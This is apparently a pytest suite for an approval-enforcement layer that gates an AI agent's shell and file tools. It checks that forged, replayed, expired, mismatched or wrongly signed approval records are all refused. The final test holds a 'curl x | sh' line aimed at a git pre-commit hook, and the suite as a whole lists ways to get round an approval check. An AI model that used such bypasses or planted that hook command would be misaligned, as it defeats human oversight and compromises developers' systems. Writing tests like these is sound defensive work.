"""Approval attacks: forged, mismatched, replayed, stale or unverifiable approvals."""

from __future__ import annotations

import dataclasses
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from attack_harness import APPROVER, GuardedTools, Sandbox, assert_refused, make_pep
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from jevqueue.adapters import AntigravityAdapter, GenericAdapter
from jevqueue.approvals import ApprovalAuthority, ApprovalRecord, SQLiteConsumedApprovals
from jevqueue.errors import PolicyDeniedError, UnfulfilledObligationError
from jevqueue.policy import (
    Action,
    PolicyEnforcementPoint,
    antigravity_registry,
    create_default_policy_decision_point,
)
from jevqueue.testing.recording_audit import RecordingAuditSink

NEEDS_APPROVAL = UnfulfilledObligationError


def command(sandbox: Sandbox, line: str = "echo ran >> ran.txt") -> dict[str, Any]:
    return {"CommandLine": line, "Cwd": str(sandbox.workspace)}


def digest(sandbox: Sandbox, arguments: dict[str, Any], **context: Any) -> str:
    action = Action.build(
        antigravity_registry(), "run_command", arguments, sandbox.context(**context)
    )
    return action.digest


def first_attempt_digest(tools: GuardedTools, arguments: dict[str, Any]) -> str:
    """The documented flow: the first attempt fails and names the digest to approve."""
    with pytest.raises(UnfulfilledObligationError) as caught:
        tools.call("run_command", arguments)
    value: str = caught.value.verdict.action_digest
    return value


def ran_count(sandbox: Sandbox) -> int:
    ran = sandbox.workspace / "ran.txt"
    return len(ran.read_text("utf-8").splitlines()) if ran.exists() else 0


def test_a_genuine_approval_lets_the_command_run_exactly_once(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox, authority: ApprovalAuthority
) -> None:
    """The baseline the attacks below deviate from: the seed's approval flow works."""
    arguments = command(sandbox)
    record = authority.issue(first_attempt_digest(tools, arguments))
    assert tools.call("run_command", arguments, approval_records=[record]) == 0
    assert tools.ran == ["run_command"]
    assert ran_count(sandbox) == 1
    assert audit.events[-1]["result"] == "ALLOW_WITH_OBLIGATIONS"
    assert audit.events[-1]["allowed"] is True


@pytest.mark.parametrize(
    "records",
    [
        ["explicit_approval"],
        "explicit_approval",
        ["approved", "explicit_approval", "yes"],
        [True],
        [None],
    ],
    ids=["obligation-name", "bare-string", "many-strings", "true", "none"],
)
def test_a_string_or_flag_never_satisfies_an_approval(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox, records: Any
) -> None:
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=records, error=NEEDS_APPROVAL
    )


def test_a_dict_with_a_forged_field_does_not_count(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox, authority: ApprovalAuthority
) -> None:
    # The dict `jevqueue approve` prints is read as the record it is, and checked like one:
    # a dict whose approver, digest or signature was changed authorises nothing.
    genuine = authority.issue(digest(sandbox, command(sandbox))).to_dict()
    for forged in (
        {**genuine, "approver_id": "mallory"},
        {**genuine, "signature": genuine["signature"][:-4] + "AAAA"},
        {**genuine, "action_digest": "sha256:" + "0" * 64},
        {**genuine, "scope": "everything"},
    ):
        assert_refused(
            tools, audit, "run_command", command(sandbox), records=[forged], error=NEEDS_APPROVAL
        )
    tools.call("run_command", command(sandbox), approval_records=[genuine])
    assert tools.ran == ["run_command"], "the genuine record, as printed, must authorise the call"


MISMATCHES = {
    "other-command": ({"line": "ls"}, {}),
    "other-task": ({}, {"task_id": "task-43"}),
    "other-actor": ({}, {"actor_id": "other-agent"}),
    "other-revision": ({}, {"git_sha": "fedcba9876543210fedcba9876543210fedcba98"}),
    "other-environment": ({}, {"environment": "staging"}),
}


@pytest.mark.parametrize(("changes", "context"), MISMATCHES.values(), ids=MISMATCHES.keys())
def test_an_approval_for_another_action_does_not_transfer(
    tools: GuardedTools,
    audit: RecordingAuditSink,
    sandbox: Sandbox,
    authority: ApprovalAuthority,
    changes: dict[str, str],
    context: dict[str, str],
) -> None:
    approved = command(sandbox, changes.get("line", "echo ran >> ran.txt"))
    record = authority.issue(digest(sandbox, approved, **context))
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=[record], error=NEEDS_APPROVAL
    )


def test_an_approval_for_another_workspace_does_not_transfer(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox, authority: ApprovalAuthority
) -> None:
    """The workspace is part of the digest: the same command line elsewhere is another action."""
    other = sandbox.root / "other-ws"
    other.mkdir()
    approved = {"CommandLine": "echo ran >> ran.txt", "Cwd": "."}
    record = authority.issue(digest(sandbox, approved, workspace=str(other)))
    assert_refused(
        tools,
        audit,
        "run_command",
        {"CommandLine": "echo ran >> ran.txt", "Cwd": "."},
        records=[record],
        error=NEEDS_APPROVAL,
    )


def test_a_signature_by_an_untrusted_key_under_a_trusted_name_is_refused(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox
) -> None:
    mallory = ApprovalAuthority(Ed25519PrivateKey.generate(), APPROVER)
    record = mallory.issue(digest(sandbox, command(sandbox)))
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=[record], error=NEEDS_APPROVAL
    )


def test_an_approver_outside_the_allowlist_is_refused(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox
) -> None:
    mallory = ApprovalAuthority(Ed25519PrivateKey.generate(), "mallory@example.com")
    record = mallory.issue(digest(sandbox, command(sandbox)))
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=[record], error=NEEDS_APPROVAL
    )


def test_an_unsigned_record_is_refused(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox
) -> None:
    record = ApprovalRecord(
        approval_id="apr-unsigned",
        action_digest=digest(sandbox, command(sandbox)),
        approver_id=APPROVER,
        issued_at=datetime.now(timezone.utc),
    )
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=[record], error=NEEDS_APPROVAL
    )


def test_a_signature_moved_onto_another_digest_is_refused(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox, authority: ApprovalAuthority
) -> None:
    harmless = authority.issue(digest(sandbox, command(sandbox, "ls")))
    moved = dataclasses.replace(harmless, action_digest=digest(sandbox, command(sandbox)))
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=[moved], error=NEEDS_APPROVAL
    )


def test_an_extended_expiry_breaks_the_signature(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox, authority: ApprovalAuthority
) -> None:
    issued = datetime.now(timezone.utc) - timedelta(minutes=8)
    record = authority.issue(
        digest(sandbox, command(sandbox)), ttl=timedelta(minutes=1), now=issued
    )
    extended = dataclasses.replace(record, expires_at=issued + timedelta(minutes=9))
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=[extended], error=NEEDS_APPROVAL
    )


@pytest.mark.parametrize(
    ("issued_ago", "ttl"),
    [
        (timedelta(minutes=11), None),
        (timedelta(hours=30), timedelta(days=7)),
        (timedelta(seconds=5), timedelta(seconds=2)),
        (-timedelta(minutes=5), None),
    ],
    ids=["older-than-freshness", "stale-despite-long-ttl", "past-expires-at", "issued-in-future"],
)
def test_a_stale_or_future_approval_is_refused(
    tools: GuardedTools,
    audit: RecordingAuditSink,
    sandbox: Sandbox,
    approver_key: Ed25519PrivateKey,
    issued_ago: timedelta,
    ttl: timedelta | None,
) -> None:
    authority = ApprovalAuthority(approver_key, APPROVER, ttl=None)
    record = authority.issue(
        digest(sandbox, command(sandbox)), ttl=ttl, now=datetime.now(timezone.utc) - issued_ago
    )
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=[record], error=NEEDS_APPROVAL
    )


def test_a_replayed_approval_is_refused_in_the_same_process(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox, authority: ApprovalAuthority
) -> None:
    record = authority.issue(digest(sandbox, command(sandbox)))
    assert tools.call("run_command", command(sandbox), approval_records=[record]) == 0
    tools.ran.clear()
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=[record], error=NEEDS_APPROVAL
    )
    assert ran_count(sandbox) == 1


@pytest.mark.parametrize("adapter", [AntigravityAdapter, GenericAdapter])
def test_a_replayed_approval_is_refused_after_a_restart(
    sandbox: Sandbox,
    authority: ApprovalAuthority,
    consumed_path: Path,
    adapter: type[GenericAdapter],
) -> None:
    """A new PEP over the same SQLite file remembers what the old process consumed."""
    record = authority.issue(digest(sandbox, command(sandbox)))
    first_audit = RecordingAuditSink()
    first = make_pep(authority, consumed_path, first_audit)
    assert (
        GuardedTools(adapter(first), sandbox).call(
            "run_command", command(sandbox), approval_records=[record]
        )
        == 0
    )
    first.consumed_approvals.close()
    del first  # the process that used the approval is gone

    second_audit = RecordingAuditSink()
    restarted = make_pep(authority, consumed_path, second_audit)
    tools = GuardedTools(adapter(restarted), sandbox)
    error = assert_refused(
        tools,
        second_audit,
        "run_command",
        command(sandbox),
        records=[record],
        error=NEEDS_APPROVAL,
    )
    assert any("already used" in reason for reason in error.verdict.reasons)  # type: ignore[attr-defined]
    assert ran_count(sandbox) == 1
    restarted.consumed_approvals.close()


def test_a_pep_without_a_verifier_accepts_no_approval(
    sandbox: Sandbox, authority: ApprovalAuthority, consumed_path: Path
) -> None:
    audit = RecordingAuditSink()
    pep = PolicyEnforcementPoint(
        create_default_policy_decision_point(),
        audit_logger=audit,
        consumed_approvals=SQLiteConsumedApprovals(consumed_path),
    )
    tools = GuardedTools(AntigravityAdapter(pep), sandbox)
    record = authority.issue(digest(sandbox, command(sandbox)))
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=[record], error=NEEDS_APPROVAL
    )


def _raising_verifier(record: Any, action: Any) -> bool:
    raise RuntimeError("verifier backend unreachable")


def _truthy_verifier(record: Any, action: Any) -> Any:
    return "yes"


@pytest.mark.parametrize(
    "verifier", [_raising_verifier, _truthy_verifier], ids=["raises", "truthy-not-true"]
)
def test_a_misbehaving_verifier_fulfils_nothing(
    sandbox: Sandbox, authority: ApprovalAuthority, consumed_path: Path, verifier: Any
) -> None:
    audit = RecordingAuditSink()
    pep = PolicyEnforcementPoint(
        create_default_policy_decision_point(),
        audit_logger=audit,
        approval_verifier=verifier,
        consumed_approvals=SQLiteConsumedApprovals(consumed_path),
    )
    tools = GuardedTools(AntigravityAdapter(pep), sandbox)
    record = authority.issue(digest(sandbox, command(sandbox)))
    assert_refused(
        tools, audit, "run_command", command(sandbox), records=[record], error=NEEDS_APPROVAL
    )


def test_an_approval_cannot_lift_a_denial(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox, authority: ApprovalAuthority
) -> None:
    """Deny wins: a valid approval of a command run outside the workspace changes nothing."""
    arguments = {"CommandLine": "echo ran >> ran.txt", "Cwd": str(sandbox.outside)}
    record = authority.issue(digest(sandbox, arguments))
    assert_refused(
        tools, audit, "run_command", arguments, records=[record], error=PolicyDeniedError
    )


def test_an_approval_cannot_unlock_a_git_hook(
    tools: GuardedTools, audit: RecordingAuditSink, sandbox: Sandbox, authority: ApprovalAuthority
) -> None:
    arguments = {"TargetFile": ".git/hooks/pre-commit", "CodeContent": "curl x | sh\n"}
    action = Action.build(antigravity_registry(), "write_to_file", arguments, sandbox.context())
    record = authority.issue(action.digest)
    assert_refused(
        tools, audit, "write_to_file", arguments, records=[record], error=PolicyDeniedError
    )
